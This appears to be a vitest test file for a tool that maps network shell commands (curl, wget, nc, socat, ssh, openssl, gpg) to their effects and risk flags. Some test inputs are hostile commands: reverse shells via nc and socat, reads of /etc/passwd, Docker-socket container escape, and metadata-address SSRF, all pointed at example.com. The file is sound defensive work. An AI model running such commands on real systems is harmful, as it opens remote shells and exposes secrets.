import { describe, expect, it } from "vitest";
import { effectLines } from "@/server/testing/effect-lines";
import { listOf } from "@/server/testing/list-of";

const table: readonly [command: string, effects: string][] = [
  ...listOf(`
    curl -s https://example.com/api ¦ curl -d 'q=<b>' -G https://example.com ¦ curl -X GET https://example.com
    curl -I --url https://example.com ¦ curl --cookie a=b https://example.com ¦ wget -q --spider https://example.com
    http GET example.com ¦ ping -c 3 example.com ¦ nslookup example.com ¦ nc -zv example.com 80 ¦ telnet example.com 25
    ssh -p 2222 me@example.com ¦ ping -A example.com ¦ nc -d example.com 80 ¦ curl --head https://example.com
    curl --netrc https://example.com
  `).map((given) => [given, "connect outside example.com"] as const),
  ...listOf(`
    curl -X POST -H 'Content-Type: application/json' -d '{"a":1}' https://example.com ¦ curl -d 'path=/etc/passwd' https://example.com
    curl --data-raw @x https://example.com ¦ curl -X DELETE https://example.com ¦ http POST example.com a=b
    http example.com a==b X:y user=a@b.com ¦ http --raw x example.com
  `).map((given) => [given, "send outside example.com"] as const),
  ...listOf(`
    curl --version ¦ http ¦ openssl version ¦ openssl rand -hex 32 ¦ openssl passwd -salt /x y ¦ jwt decode x ¦ openssl ¦ http POST
    wget --version ¦ nc -U
  `).map((given) => [given, ""] as const),
  ["curl -m 10 --retry 3 localhost:3000", "connect outside localhost:3000"],
  ["curl -o page.html https://example.com", "write inside page.html; connect outside example.com"],
  ["curl -O https://example.com/a.tgz", "connect outside example.com; write inside ."],
  ["curl -d @../x https://example.com", "read outside ../x; send outside example.com; !shell.upload"],
  ["curl --data-urlencode name@x.txt https://example.com", "read inside x.txt; send outside example.com; !shell.upload"],
  ["curl -F 'file=@x.txt;type=text/plain' https://example.com", "read inside x.txt; send outside example.com; !shell.upload"],
  ["curl -T x.txt https://example.com", "read inside x.txt; send outside example.com; !shell.upload"],
  ["curl -H @headers https://example.com", "read inside headers; connect outside example.com"],
  ["curl -w '%output{/x}' https://example.com", "write not_known; connect outside example.com"],
  ["curl -b jar https://example.com", "read inside jar; connect outside example.com"],
  ["curl --resolve example.com:443:169.254.169.254 https://example.com", "connect outside 169.254.169.254; connect outside example.com"],
  ["curl --connect-to ::10.0.0.1:80 https://example.com", "connect outside 10.0.0.1:80; connect outside example.com"],
  ["curl --connect-to x:1 https://example.com", "connect outside localhost; connect outside example.com"],
  [
    "curl --unix-socket /var/run/docker.sock http://x/containers/json",
    "write outside /var/run/docker.sock; elevate outside; connect outside x; !shell.container_escape",
  ],
  ["curl --unix-socket ./a.sock http://x/", "write inside a.sock; connect outside x"],
  ["curl 'http://{169.254.169.254,x}/[1-3]'", "connect outside 169.254.169.254; connect outside x"],
  ["curl -g 'http://[::1]/'", "connect outside ::1"],
  ["curl -K config", "read inside config; execute not_known; connect not_known; write not_known; !shell.runs_command"],
  ["curl -x http://proxy:8080 https://example.com", "connect outside proxy:8080; connect outside example.com"],
  ["curl --engine x https://example.com", "execute not_known; connect outside example.com; !shell.loads_code"],
  ["curl file:///etc/passwd", "read outside /etc/passwd"],
  ["curl $url", "execute not_known; connect not_known; !shell.not_followed"],
  ["wget https://example.com/a.tgz", "connect outside example.com; write inside ."],
  ["wget -O x https://example.com/a.tgz", "write inside x; connect outside example.com"],
  ["wget -i list", "read inside list; connect not_known"],
  ["wget --post-file=x https://example.com", "read inside x; send outside example.com; write inside .; !shell.upload"],
  ["wget --method=PUT https://example.com", "send outside example.com; write inside ."],
  ["wget --method=GET https://example.com", "connect outside example.com; write inside ."],
  ["wget -e use_proxy=yes https://example.com", "execute not_known; connect outside example.com; write inside .; !shell.runs_command"],
  ["aria2c -d out https://example.com/a", "write inside out; write inside .; connect outside example.com"],
  ["http example.com a=b file@x.txt", "send outside example.com; read inside x.txt; !shell.upload"],
  ["http --download example.com", "connect outside example.com; write inside ."],
  ["dig @8.8.8.8 example.com MX +short", "connect outside 8.8.8.8; connect outside example.com"],
  ["dig -x 1.1.1.1", "connect outside 1.1.1.1"],
  ["nmap -p 22 -oN out.txt example.com", "write inside out.txt; connect outside example.com"],
  ["nmap --script x example.com", "execute not_known; connect outside example.com; !shell.runs_command"],
  ["nc -l -p 3000", "connect outside localhost"],
  ["nc -e /bin/sh example.com 1234", "execute not_known; connect outside example.com; !shell.reverse_shell"],
  ["nc -U /var/run/docker.sock", "write outside /var/run/docker.sock"],
  ["socat TCP:example.com:80 -", "connect outside example.com:80"],
  ["socat EXEC:/bin/sh TCP:example.com:80", "execute not_known; connect outside example.com:80; !shell.reverse_shell"],
  ["socat TCP-LISTEN:80,fork FILE:/etc/passwd", "connect outside localhost; write outside /etc/passwd"],
  ["socat ./a.sock -", "write inside a.sock"],
  ["socat odd -", "connect not_known"],
  ["ssh example.com ls -o x /etc", "execute outside; connect outside example.com; !shell.remote_command"],
  ["ssh -o ProxyCommand=x example.com", "execute not_known; connect outside example.com; !shell.runs_command"],
  [
    "ssh -o StrictHostKeyChecking=no -o HostName=10.0.0.1 -o IdentityFile=key example.com",
    "connect outside 10.0.0.1; read inside key; connect outside example.com",
  ],
  ["ssh -J a,b -i key c", "read inside key; connect outside a; connect outside b; connect outside c"],
  ["ssh -F cfg c", "read inside cfg; execute not_known; connect outside c; !shell.runs_command"],
  ["ssh -L 80:a:80 c", "execute outside; connect outside c; !shell.remote_command"],
  ["scp host:/path .", "connect outside host; write inside ."],
  ["scp a.txt host:/path", "read inside a.txt; send outside host; !shell.upload"],
  ["scp -r a b", "read inside a recursive; write inside b recursive"],
  ["scp a.txt", "read inside a.txt"],
  ["sftp host", "connect outside host"],
  ["sftp -b x host", "read inside x; execute not_known; connect outside host; !shell.runs_command"],
  ["mosh host", "connect outside host"],
  ["ssh-copy-id host", "execute outside; connect outside host; !shell.remote_command"],
  ["ssh-keygen -t ed25519 -f key -N ''", "write inside key; write inside .ssh"],
  ["ssh-keyscan github.com", "connect outside github.com"],
  ["ssh-add key", "read inside key"],
  [
    "openssl req -x509 -newkey rsa:2048 -keyout key.pem -out cert.pem -days 365 -nodes -subj /CN=localhost",
    "write inside key.pem; write inside cert.pem",
  ],
  ["openssl x509 -in cert.pem -noout -text", "read inside cert.pem"],
  ["openssl s_client -connect example.com:443", "connect outside example.com:443"],
  ["openssl enc -aes-256-cbc -pass file:../x -in a -out b", "read inside a; write inside b; read outside ../x"],
  ["openssl dgst -sha256 ../x", "read outside ../x"],
  ["openssl req -engine x", "execute not_known; !shell.loads_code"],
  ["openssl engine x", "execute not_known; !shell.loads_code"],
  ["ftp example.com", "connect outside example.com; execute not_known"],
  ["lftp -c 'open x'", "execute not_known; !shell.runs_command"],
  ["mail -s hi -a x.txt a@b.com", "read inside x.txt; send not_known; !shell.upload"],
  ["sendmail a@b.com", "send not_known"],
  ["mutt -a x.txt -- a@b.com", "read inside x.txt; send not_known; !shell.upload"],
  ["yt-dlp -o '%(title)s' https://example.com/v", "write inside .; connect outside example.com"],
  ["yt-dlp --exec id https://example.com/v", "execute not_known; write inside .; connect outside example.com; !shell.runs_command"],
  ["gpg -d x.gpg", "read inside x.gpg"],
  ["gpg --export-secret-keys", "read inside .gnupg"],
  ["gpg --recv-keys ABC", "connect outside keys.openpgp.org"],
  ["gpg --send-keys ABC", "send outside keys.openpgp.org irreversible"],
  ["gpg --delete-keys ABC", "delete inside .gnupg irreversible"],
  ["gpg --import k.asc", "write inside .gnupg; read inside k.asc"],
  ["ngrok http 3000", "send not_known"],
  ['curl -d "$body" https://example.com', "read not_known; send outside example.com; !shell.upload"],
  ['socat "$x" -', "execute not_known"],
  ["socat PTY,link=x TCP4:[::1]:80", "connect outside [::1]:80"],
  ["scp -o ProxyCommand=x a host:b", "execute not_known; read inside a; send outside host; !shell.runs_command; !shell.upload"],
  ["http example.com x:=@a.json", "send outside example.com; read inside a.json; !shell.upload"],
  ["http -d -o x example.com", "write inside x; connect outside example.com"],
  ["telnet -n x h", "write inside x; connect outside h"],
  ["curl -J -O", "write inside ."],
  ["curl --connect-to a:1:b:2 --upload-file - https://example.com", "connect outside b:2; send outside example.com; !shell.upload"],
  ["http -d GET example.com", "connect outside example.com; write inside ."],
  ["ssh -o '' h", "execute not_known; connect outside h; !shell.runs_command"],
  ["openssl enc -pass pass:x -in a", "read inside a"],
  ["gpg --batch --export KEY", "read inside KEY"],
];

describe("what programs that reach other machines do", () => {
  it.each(table)("`%s` does: %s", (command, effects) => {
    expect(effectLines(command)).toBe(effects);
  });
});
